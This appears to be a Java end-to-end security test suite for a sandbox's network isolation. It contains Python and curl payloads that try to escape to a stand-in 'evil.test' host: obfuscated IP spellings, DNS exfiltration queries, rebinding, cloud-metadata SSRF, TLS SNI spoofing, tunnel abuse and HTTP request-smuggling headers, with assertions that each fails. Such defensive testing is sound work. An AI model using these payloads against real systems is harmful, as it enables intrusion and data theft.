package dev.cove.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.cove.e2e.RunningServer;
import dev.cove.e2e.SecureWorld;
import dev.cove.sdk.Command;
import dev.cove.sdk.CreateOptions;
import dev.cove.sdk.Network;
import dev.cove.sdk.NetworkLogEntry;
import dev.cove.sdk.Sandbox;
import dev.cove.testing.world.WorldNames;
import dev.cove.testing.world.WorldServer;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.SocketTimeoutException;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Attempts to get out of a sandbox by another way than is allowed, from inside and with real
 * clients. What gets out is seen by servers of this test; what should get out, does. Addresses of
 * 127.77.0.0/16 are the world; inside a sandbox they are its own loopback, so whoever wants them as
 * such asks the proxy.
 */
class NetworkAttacksTest {
  private static final String EVIL = "127.77.0.2";
  private static final String PROXY = "-x http://198.18.0.1:3128 ";

  @RegisterExtension
  @Order(1)
  static final SecureWorld WORLD = SecureWorld.of("allowed.test");

  @RegisterExtension
  @Order(2)
  static final RunningServer SERVER = RunningServer.with(WORLD::settings);

  /** What programs in here share. */
  private static final String PRELUDE =
      """
      import socket, ssl, struct, sys, time
      def dial(host, port):
        peer = socket.create_connection((host, port), timeout=15)
        peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return peer
      def hear(peer):
        heard = b""
        try:
          while True:
            piece = peer.recv(65536)
            if not piece: return heard
            heard += piece
        except OSError as e:
          return heard + b"(" + type(e).__name__.encode() + b")"
      def say(host, port, *pieces):
        peer = dial(host, port)
        try:
          for piece in pieces:
            peer.sendall(piece)
            if len(pieces) > 1: time.sleep(0.002)
          peer.shutdown(socket.SHUT_WR)
        except OSError: pass
        return hear(peer)
      def hello(name, filler=0):
        def ext(kind, body): return struct.pack(">HH", kind, len(body)) + body
        exts = b""
        if filler: exts += ext(21, b"\\0" * filler)
        if name is not None:
          n = name.encode()
          exts += ext(0, struct.pack(">HBH", len(n) + 3, 0, len(n)) + n)
        body = b"\\3\\3" + b"r" * 32 + b"\\0" + b"\\0\\2\\x13\\1" + b"\\1\\0"
        body += struct.pack(">H", len(exts)) + exts
        shake = b"\\1" + struct.pack(">I", len(body))[1:] + body
        out = b""
        while shake:
          part, shake = shake[:16000], shake[16000:]
          out += b"\\x16\\3\\1" + struct.pack(">H", len(part)) + part
        return out
      """;

  private static WorldServer allowed;
  private static WorldServer evil;
  private static WorldServer raw;
  private static Sandbox box;
  private static Sandbox open;

  @BeforeAll
  static void begin() throws Exception {
    allowed = WORLD.web("127.77.0.1");
    evil = WORLD.web(EVIL);
    raw = WORLD.plain("127.77.0.1", WorldServer.ECHO);
    WorldNames names = WORLD.names();
    names.put("allowed.test", "127.77.0.1");
    names.put("second.test", "127.77.0.1");
    names.put("evil.test", EVIL);
    names.put("notallowed.test", EVIL);
    names.put("allowed.test.evil.test", EVIL);
    box =
        SERVER.create(
            CreateOptions.defaults()
                .network(Network.denying().allow("allowed.test").allow("second.test")));
    open = SERVER.create(CreateOptions.defaults().network(Network.allowing()));
  }

  @AfterAll
  static void end() throws IOException {
    SERVER.cove().sandboxes().delete(box.id());
    SERVER.cove().sandboxes().delete(open.id());
  }

  private static String curl(Sandbox from, String arguments) {
    return from.exec(Command.shell("timeout 25 curl -sS -m 20 " + arguments + " 2>&1")).stdout();
  }

  private static String python(Sandbox from, String program) {
    var result = from.exec("python3", "-c", PRELUDE + program);
    assertThat(result.stderr()).isEmpty();
    return result.stdout().strip();
  }

  private static String at(String host, WorldServer server) {
    return "'http://%s:%d/x'".formatted(host, server.port());
  }

  @Test
  void an_address_is_the_same_in_every_spelling_and_no_name_is_another() {
    int before = evil.connections();
    List<String> spellings =
        List.of(
            EVIL,
            "0x7f4d0002",
            "0x7f.0x4d.0.2",
            "0177.0115.0.2",
            "127.77.2",
            "2135752706",
            "[::ffff:127.77.0.2]",
            "[::ffff:7f4d:2]",
            "allowed.test@evil.test",
            "evil.test.",
            "EVIL.test",
            "allowed.test.evil.test",
            "notallowed.test",
            "аllowed.test");
    for (String host : spellings) {
      assertThat(curl(box, PROXY + at(host, evil))).as(host).doesNotContain("GET /x");
      assertThat(curl(box, at(host, evil))).as(host).doesNotContain("GET /x");
      assertThat(curl(box, PROXY + "-p " + at(host, evil))).as(host).doesNotContain("GET /x");
    }
    assertThat(evil.connections()).isEqualTo(before);
    for (String host : List.of("allowed.test", "ALLOWED.test", "allowed.test.")) {
      assertThat(curl(box, at(host, allowed))).as(host).contains("GET /x");
    }
    box.allow(EVIL);
    try {
      assertThat(curl(box, PROXY + at(EVIL, evil))).contains("GET /x");
    } finally {
      box.setNetwork(Network.denying().allow("allowed.test").allow("second.test"));
    }
  }

  @Test
  void no_datagram_and_no_raw_packet_leaves() throws Exception {
    try (var sink = new DatagramSocket(0, InetAddress.ofLiteral(EVIL))) {
      sink.setSoTimeout(1);
      String tries =
          """
          def attempt(what, family, kind, protocol, to):
            try:
              peer = socket.socket(family, kind, protocol)
              peer.settimeout(5)
              peer.connect(to)
              peer.send(b"x" * 32)
              peer.send(b"x" * 32)
              peer.recv(1)
              print(what, "got through")
            except OSError as e: pass
          for port in (443, 53, 123, %1$d):
            for host in ("192.0.2.1", "%2$s"):
              attempt("udp", socket.AF_INET, socket.SOCK_DGRAM, 0, (host, port))
            attempt("udp6", socket.AF_INET6, socket.SOCK_DGRAM, 0, ("2001:db8::1", port))
          attempt("ping", socket.AF_INET, socket.SOCK_DGRAM, 1, ("192.0.2.1", 0))
          for protocol in (1, 2, 4, 41, 47, 255):
            attempt("raw %%d" %% protocol, socket.AF_INET, socket.SOCK_RAW, protocol, ("192.0.2.1", 0))
          attempt("sctp", socket.AF_INET, socket.SOCK_STREAM, 132, ("192.0.2.1", 443))
          attempt("dccp", socket.AF_INET, 6, 33, ("192.0.2.1", 443))
          try:
            socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)
            print("packet socket")
          except OSError: pass
          print("done")
          """
              .formatted(sink.getLocalPort(), EVIL);
      for (String user : List.of("user", "root")) {
        var result = open.exec(Command.of("python3", "-c", PRELUDE + tries).user(user));
        assertThat(result.stdout()).as(user + result.stderr()).isEqualTo("done\n");
      }
      assertThatThrownBy(() -> sink.receive(new DatagramPacket(new byte[64], 64)))
          .isInstanceOf(SocketTimeoutException.class);
    }
    assertThat(
            python(
                open,
                "peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                    + "peer.settimeout(10)\n"
                    + "peer.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7allowed\\4test\\0\\0\\1\\0\\1',"
                    + " ('198.18.0.1', 53))\n"
                    + "print(len(peer.recv(512)) > 12)"))
        .as("but for names, which Cove answers")
        .isEqualTo("True");
  }

  @Test
  void names_carry_nothing_out() {
    int before = WORLD.names().asked().size();
    String questions =
        """
        def ask(name, kind):
          query = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
          for label in name.split("."): query += bytes([len(label)]) + label.encode()
          query += b"\\0" + struct.pack(">HH", kind, 1)
          peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
          peer.settimeout(10)
          peer.sendto(query, ("198.18.0.1", 53))
          return peer.recv(4096)
        for kind in (1, 5, 10, 15, 16, 28, 33, 64, 65, 252, 255):
          for name in ("c2VjcmV0.evil.test", "c2VjcmV0.allowed.test", "x" * 60 + ".evil.test"):
            ask(name, kind)
        for i in range(50): ask("data%d.allowed.test" % i, 1)
        print("asked")
        """;
    assertThat(python(box, questions)).isEqualTo("asked");
    for (String where : List.of("192.0.2.53", "evil.test")) {
      for (int port : new int[] {53, 853}) {
        assertThat(python(box, "print(say('%s', %d, b'\\0\\1x'))".formatted(where, port)))
            .contains("ConnectionResetError");
      }
    }
    assertThat(curl(box, "https://evil.test:" + evil.port() + "/dns-query?dns=AAAA"))
        .contains("access denied");
    assertThat(WORLD.names().asked()).as("nobody outside was asked anything").hasSize(before);
    assertThat(python(box, "print(socket.gethostbyname('allowed.test'))")).startsWith("198.");
  }

  @Test
  void a_name_that_turns_towards_this_machine_is_not_followed() throws Exception {
    try (WorldServer inner = new WorldServer("127.0.0.1", SecureWorld::web)) {
      var turn = new AtomicInteger();
      WORLD
          .names()
          .putAnswers(
              "rebind.test",
              () -> new String[] {turn.getAndIncrement() % 2 == 0 ? "127.77.0.1" : "127.0.0.1"});
      WORLD.names().put("mixed.test", 0, "127.0.0.1", "10.9.9.9", "169.254.169.254", "::1");
      for (int i = 0; i < 6; i++) {
        curl(open, at("rebind.test", inner));
        curl(open, at("mixed.test", inner));
      }
      assertThat(inner.connections()).isZero();
      assertThat(curl(open, at("mixed.test", inner))).contains("never ");
      WORLD.names().put("steady.test", 0, "127.0.0.1", "127.77.0.1");
      assertThat(curl(open, at("steady.test", allowed))).contains("GET /x");
    }
  }

  @Test
  void a_redirect_is_a_request_like_any() {
    int before = evil.connections();
    String from = "-L 'http://allowed.test:%d/to?".formatted(allowed.port());
    assertThat(curl(box, from + "http://evil.test:%d/x'".formatted(evil.port())))
        .contains("may not reach evil.test");
    assertThat(curl(box, PROXY + from + "http://%s:%d/x'".formatted(EVIL, evil.port())))
        .contains("may not reach");
    assertThat(curl(open, from + "http://169.254.169.254/latest'")).contains("never metadata");
    assertThat(evil.connections()).isEqualTo(before);
    assertThat(curl(box, from + "http://second.test:%d/x'".formatted(allowed.port())))
        .contains("GET /x");
  }

  @Test
  void variables_steer_programs_and_not_the_gateway() {
    int before = evil.connections();
    box.files().write("/tmp/aliases", "friend evil.test\n");
    String elsewhere = "://evil.test:" + evil.port();
    for (String variables :
        List.of(
            "http_proxy=http" + elsewhere,
            "all_proxy=socks5h" + elsewhere,
            "http_proxy=http://%s:%d".formatted(EVIL, evil.port()),
            "http_proxy=http://evil.test@198.18.0.1:3129",
            "http_proxy=http://169.254.169.254")) {
      assertThat(curlWith(variables, at("allowed.test", allowed)))
          .as(variables)
          .doesNotContain("GET /x");
    }
    assertThat(curlWith("HOSTALIASES=/tmp/aliases", at("friend", evil))).doesNotContain("GET /x");
    assertThat(curlWith("LOCALDOMAIN=test RES_OPTIONS=ndots:5", at("evil", evil)))
        .doesNotContain("GET /x");
    assertThat(evil.connections()).isEqualTo(before);
    assertThat(curlWith("http_proxy=http://198.18.0.1:3128", at("allowed.test", allowed)))
        .contains("GET /x");
    assertThat(curlWith("LOCALDOMAIN=test", at("allowed.test", allowed))).contains("GET /x");
  }

  private static String curlWith(String variables, String url) {
    return box.exec(
            Command.shell("env " + variables + " timeout 25 curl -sS -m 20 " + url + " 2>&1"))
        .stdout();
  }

  @Test
  void metadata_and_private_addresses_are_closed_to_every_policy() {
    open.allow("169.254.169.254", "10.9.9.9", "100.100.100.200", "[fd00:ec2::254]");
    WORLD.names().put("metadata.google.internal", "169.254.169.254");
    List<String> hosts =
        List.of(
            "169.254.169.254",
            "0xa9fea9fe",
            "[fd00:ec2::254]",
            "[::ffff:169.254.169.254]",
            "[64:ff9b::a9fe:a9fe]",
            "100.100.100.200",
            "metadata.google.internal");
    for (String host : hosts) {
      assertThat(curl(open, "-H 'Metadata-Flavor: Google' 'http://" + host + "/latest'"))
          .as(host)
          .contains("never metadata");
      assertThat(curl(open, PROXY + "'http://" + host + "/latest'"))
          .as(host)
          .doesNotContain("ami-id");
    }
    for (String host : List.of("10.9.9.9", "172.16.0.1", "192.168.1.1", "[fc00::1]")) {
      assertThat(curl(open, "'http://" + host + "/'")).as(host).contains("never ");
    }
    assertThat(curl(open, "'http://[fe80::1]/'")).contains("Couldn't connect");
    assertThat(open.networkLog(1_000))
        .filteredOn(line -> line.rule().startsWith("never"))
        .isNotEmpty()
        .extracting(NetworkLogEntry::dialled)
        .containsOnly("");
    assertThat(curl(open, at("allowed.test", allowed))).contains("GET /x");
  }

  @Test
  void tls_goes_only_to_the_host_that_it_names() {
    String program =
        """
        def try_(*pieces): return say('allowed.test', PORT, *pieces)
        def cut(data): return [data[i:i + 1] for i in range(len(data))]
        good = hello("allowed.test")
        print(try_(good) == good, try_(*cut(good)) == good)
        big = hello("allowed.test", 12000)
        print(try_(big) == big)
        for bad in (hello("evil.test"), hello(None), hello("allowed.test.evil.test"), hello(""),
                    hello("evil.test", 12000), hello("evil.test", 20000),
                    good[:30] + hello("evil.test")[30:60]):
          heard = try_(bad)
          print(bad in heard or len(heard) > 7 + 30)
        print(len(try_(*cut(hello("evil.test")))) > 37)
        """
            .replace("PORT", String.valueOf(raw.port()));
    assertThat(python(box, program).lines().toList())
        .containsExactly(
            "True True",
            "True",
            "False",
            "False",
            "False",
            "False",
            "False",
            "False",
            "False",
            "False");
    assertThat(raw.got()).doesNotContain("evil");
  }

  @Test
  void a_tunnel_leads_only_where_it_was_asked_for() {
    int before = evil.connections();
    String tries =
        """
        def connect(target, then=b""):
          return say("198.18.0.1", 3128,
              ("CONNECT %%s HTTP/1.1\\r\\nHost: %%s\\r\\n\\r\\n" %% (target, target)).encode() + then)
        for target in ("evil.test:%2$d", "%3$s:%2$d", "evil.test:22", "10.9.9.9:25", "[::1]:443",
                       "198.18.0.1:3128", "127.0.0.1:7070"):
          print(b" 200 " in connect(target))
        there = "allowed.test:%1$d"
        for then in (b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", b"SSH-2.0-x\\r\\n", hello("evil.test"),
                     b"CONNECT evil.test:%2$d HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"):
          heard = connect(there, then)
          print(then in heard)
        print(hello("allowed.test") in connect(there, hello("allowed.test")))
        """
            .formatted(raw.port(), evil.port(), EVIL);
    assertThat(python(box, tries).lines().toList()).hasSize(12).last().isEqualTo("True");
    assertThat(python(box, tries).lines().toList().subList(0, 11)).containsOnly("False");
    assertThat(evil.connections()).isEqualTo(before);
    assertThat(raw.got()).doesNotContain("evil", "SSH");
  }

  @Test
  void no_request_hides_in_another() {
    String post = "POST / HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\n".formatted(allowed.port());
    String hidden = "GET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
    List<String> heads =
        List.of(
            "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
            "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n0\\r\\n\\r\\n",
            "Transfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n",
            "Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
            "Transfer-Encoding:\\x0bchunked\\r\\n\\r\\n0\\r\\n\\r\\n",
            "Content-Length: 0\\r\\nContent-Length: 60\\r\\n\\r\\n",
            "Content-Length: +0\\r\\n\\r\\n",
            "Content-Length: 0\\x00\\r\\n\\r\\n",
            "Content-Length: 99999999999999999999\\r\\n\\r\\n",
            "X: y\\r\\n Content-Length: 60\\r\\n\\r\\n",
            "X: y\\nContent-Length: 60\\r\\n\\r\\n",
            "Transfer-Encoding: chunked\\r\\n\\r\\n0\\n\\n",
            "Transfer-Encoding: chunked\\r\\n\\r\\n0x0\\r\\n\\r\\n",
            "Content-Length: 0\\r\\n\\r\\n");
    var program = new StringBuilder();
    for (String head : heads) {
      program.append(
          "say('allowed.test', %d, b'%s')\n".formatted(allowed.port(), post + head + hidden));
    }
    program.append("print('sent')");
    assertThat(python(box, program.toString())).isEqualTo("sent");
    assertThat(allowed.got()).doesNotContain("smuggled");
    String behind =
        "GET /behind HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\n\\r\\n".formatted(allowed.port());
    assertThat(
            python(
                box,
                "print(say('allowed.test', %d, b'%sContent-Length: 0\\r\\n\\r\\n%s'))"
                    .formatted(allowed.port(), post, behind)))
        .as("what is hidden nowhere goes out")
        .contains("POST / HTTP/1.1")
        .contains("GET /behind");
  }

  @Test
  void no_sandbox_reaches_another_nor_this_machine_nor_cove() throws Exception {
    int covesPort = SERVER.url().getPort();
    try (WorldServer loopback = new WorldServer("127.0.0.1", SecureWorld::web);
        WorldServer everywhere = new WorldServer("0.0.0.0", SecureWorld::web);
        Sandbox other = SERVER.create()) {
      other.spawn(
          Command.shell("cd /tmp && exec python3 -m http.server 8000 > /tmp/requests 2>&1"));
      String own = InetAddress.getLocalHost().getHostAddress();
      List<String> hosts =
          List.of("127.0.0.1", "localhost", "[::1]", "0.0.0.0", "198.18.0.1", "198.18.1.0", own);
      for (String host : hosts) {
        for (int port : new int[] {covesPort, loopback.port(), everywhere.port(), 8000}) {
          String url = "'http://" + host + ":" + port + "/healthz'";
          assertThat(curl(open, url)).as(url).doesNotContain("\"ok\"").doesNotContain("GET /");
          assertThat(curl(open, PROXY + url)).as(url).doesNotContain("GET /healthz HTTP");
        }
      }
      for (String name : List.of(other.id(), other.id() + ".internal", "cove", "host.internal")) {
        assertThat(curl(open, "http://" + name + ":8000/"))
            .as(name)
            .contains("Could not resolve host");
      }
      assertThat(loopback.connections()).isZero();
      assertThat(everywhere.connections()).isZero();
      assertThat(other.exec("cat", "/tmp/requests").stdout()).doesNotContain("GET");
      assertThat(curl(other, "--retry-connrefused --retry 20 http://127.0.0.1:8000/"))
          .as("its own programs reach it")
          .contains("Directory listing");
    }
  }
}
